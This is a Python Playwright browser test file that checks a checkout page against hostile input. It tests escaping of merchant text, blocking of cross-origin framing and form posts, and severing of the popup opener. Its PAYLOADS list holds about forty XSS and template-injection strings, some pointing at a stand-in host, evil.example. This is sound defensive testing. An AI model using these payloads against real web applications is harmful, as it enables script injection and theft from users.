"""What strangers try with a buyer's page: scripts in names, frames, forms and windows of theirs."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from urllib.parse import quote, urlsplit

import pytest
from playwright.sync_api import Browser, Page, expect

from tests.browser.conftest import OpenWindow
from tests.browser.shop import FROM_ZERO, MUG, T_SHIRT, Shop, item, running_shop
from tests.pages.steps import PAYS, fill_in, pay, set_quantity
from tests.support.browser import WAIT_MS
from tests.support.server import Server

pytestmark = pytest.mark.browser

PAYLOADS = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    '" onfocus="alert(1)" autofocus x="',
    "' onmouseover='alert(1)' style='position:fixed;inset:0' x='",
    "` onpointerover=alert(1) `",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<base href=http://evil.example/>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<style>@import 'http://evil.example/x.css'</style>",
    "<object data=javascript:alert(1)></object>",
    "<math><mtext></mtext><mglyph><svg><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<form action=http://evil.example><button>Pay",
    "</dialog></form></main><h1>Paid</h1>",
    "</textarea></title></style></noscript><svg/onload=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "{{ constructor.constructor('alert(1)')() }}",
    "{{ 7 * 7 }}{% raw %}${alert(1)}#{alert(1)}",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\u2028\u2029</script><svg onload=alert(1)>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\u202eevil\u202c <b>bold</b>",
    "x' || alert(1) || '",
    "x\\'; alert(1); //",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "ſcript<ſcript>alert(1)</ſcript>",
]


def test_whatever_a_merchant_writes_is_text(window: Page, shop: Shop) -> None:
    """The windows of these tests fail at any dialog, refusal by the policy, or stray request."""
    session = shop.create(
        *(
            item(
                payload,
                100,
                product_data={
                    "description": payload,
                    "images": [f"{shop.url}/{quote(payload, safe='')}"],
                    "metadata": {"note": payload},
                },
                adjustable_quantity=FROM_ZERO,
            )
            for payload in PAYLOADS
        ),
        metadata={"note": PAYLOADS[0]},
        client_reference_id=PAYLOADS[1],
        cancel_url=f"{shop.url}/{quote(PAYLOADS[4], safe='')}",
    )
    window.goto(str(session.url))
    shown = [payload.replace("\u2028", " ").replace("\u2029", " ") for payload in PAYLOADS]
    names = window.get_by_test_id("line-item-product-name")
    expect(names).to_have_text(shown)
    expect(window.get_by_test_id("line-item-product-description")).to_have_text(shown)
    for line in (0, 3, 4, 6):
        window.get_by_test_id("line-item-adjustable-qty").nth(line).click()
        expect(window.locator(".AdjustQuantity-name")).to_have_text(shown[line])
        set_to = window.get_by_role("textbox", name="quantity")
        set_to.fill(PAYLOADS[3])
        window.get_by_role("button", name="Update").click()
        expect(window.locator("#quantity-error")).to_be_visible()
        window.get_by_label("Close").and_(window.locator(":visible")).click()
    window.locator("#email").fill(PAYLOADS[4])
    window.locator("#billingName").fill(PAYLOADS[6])
    window.locator("#billingPostalCode").fill(PAYLOADS[5])
    pay(window)
    expect(window.locator("#email-error")).to_have_text("Your email is incomplete.")
    expect(window.locator("#billingName")).to_have_value(PAYLOADS[6])


def test_the_name_of_the_merchant_is_text_too(browser: Browser, tmp_path: Path, key: str) -> None:
    payload = "\"'></script><img src=x onerror=alert(1)>"
    server = Server(tmp_path / "paydesk.db", environment={"PAYDESK_MERCHANT": payload}).start()
    context = browser.new_context()
    try:
        with running_shop(server.url, key) as shop:
            window, problems = context.new_page(), list[str]()
            window.on("dialog", lambda dialog: problems.append(dialog.message))
            window.on("console", lambda message: problems.append(message.text))
            session = shop.create(T_SHIRT, MUG)
            window.goto(str(session.url))
            expect(window.get_by_test_id("product-summary-name")).to_have_text(f"Pay {payload}")
            expect(window.get_by_test_id("business-link")).to_have_attribute(
                "aria-label", f"Back to {payload}"
            )
            shop.expire(session)
            window.reload()
            expect(window.get_by_text("Nothing was charged.")).to_contain_text(payload)
            assert problems == []
    finally:
        context.close()
        server.stop()


def test_a_whole_checkout_asks_nobody_else(
    open_window: OpenWindow, shop: Shop, server: Server
) -> None:
    window = open_window()
    asked: list[str] = []
    window.on("request", lambda request: asked.append(urlsplit(request.url).netloc))
    window.goto(str(shop.create(T_SHIRT, automatic_tax={"enabled": True}).url))
    total = window.locator("#OrderDetails-TotalAmount")
    set_quantity(window, "2")
    expect(total).to_have_text("$40.00")
    fill_in(window)
    expect(total).to_have_text("$42.90")
    pay(window)
    window.wait_for_url(f"{shop.url}/thanks")
    assert set(asked) == {urlsplit(server.url).netloc, urlsplit(shop.url).netloc}
    assert shop.referrers == [None]


REFUSED = "chrome-error://chromewebdata/"


class Stranger:
    """A site of somebody else, at `origin`, and the window of a buyer who came there."""

    def __init__(self, window: Page, shop: Shop, origin: str) -> None:
        self.window = window
        self.console: list[str] = []
        self._shop = shop
        self._origin = origin
        window.on("console", lambda message: self.console.append(message.text))

    def show(self, html: str) -> None:
        self._shop.pages["/win"] = f"<!doctype html><title>Win!</title>{html}".encode()
        self.window.goto(f"{self._origin}/win")


@pytest.fixture(params=["another site", "another origin of the site"])
def stranger(request: pytest.FixtureRequest, browser: Browser, shop: Shop) -> Iterator[Stranger]:
    """To a browser localhost is another site than 127.0.0.1, and a port is another origin."""
    cross_site = request.param == "another site"
    origin = shop.url.replace("127.0.0.1", "localhost") if cross_site else shop.url
    context = browser.new_context()
    context.set_default_timeout(WAIT_MS)
    yield Stranger(context.new_page(), shop, origin)
    context.close()


def test_nobody_else_can_frame_the_page_or_the_bank(stranger: Stranger, shop: Shop) -> None:
    session = shop.create()
    addresses = [str(session.url), shop.ask_the_bank(session), f"{shop.url}/thanks"]
    stranger.show("".join(f"<iframe src='{address}'></iframe>" for address in addresses))
    for frame, shown in zip(
        stranger.window.frames[1:], [REFUSED, REFUSED, addresses[2]], strict=True
    ):
        frame.wait_for_url(shown)
    assert sum("frame-ancestors" in text for text in stranger.console) == 2


def test_nobody_else_can_post_the_forms(stranger: Stranger, shop: Shop) -> None:
    session = shop.create(automatic_tax={"enabled": True})
    fields = {
        "line_item": shop.line_ids(session)[0], "adjustQuantity": "3", "action": "update",
        "expected_amount": "2000", "email": "jenny@example.com", "cardNumber": PAYS,
        "cardExpiry": "12/34", "cardCvc": "123", "billingName": "Jenny Rosen",
        "billingCountry": "JP", "billingPostalCode": "100-0001",
    }  # fmt: skip
    inputs = "".join(f"<input name={name} value='{value}'>" for name, value in fields.items())
    url = str(session.url).partition("#")[0]
    before = shop.look(session), shop.lines(session)
    for action in ("quantity", "tax", "confirm"):
        form = f"<form method=post action='{url}/{action}'>{inputs}<button>Win!</button></form>"
        stranger.show(form)
        with stranger.window.expect_navigation() as navigation:
            stranger.window.get_by_role("button").click()
        assert navigation.value is not None
        assert navigation.value.status == 400, action
    assert (shop.look(session), shop.lines(session)) == before
    assert shop.charges() == []


def test_who_opens_the_checkout_has_no_hold_on_it(stranger: Stranger, shop: Shop) -> None:
    session = shop.create()
    stranger.show("")
    with stranger.window.expect_popup() as popup:
        stranger.window.evaluate("url => { window.checkout = open(url) }", session.url)
    expect(popup.value.locator("#cardNumber")).to_be_visible()
    assert popup.value.evaluate("() => opener") is None
    assert stranger.window.evaluate("() => checkout.closed")
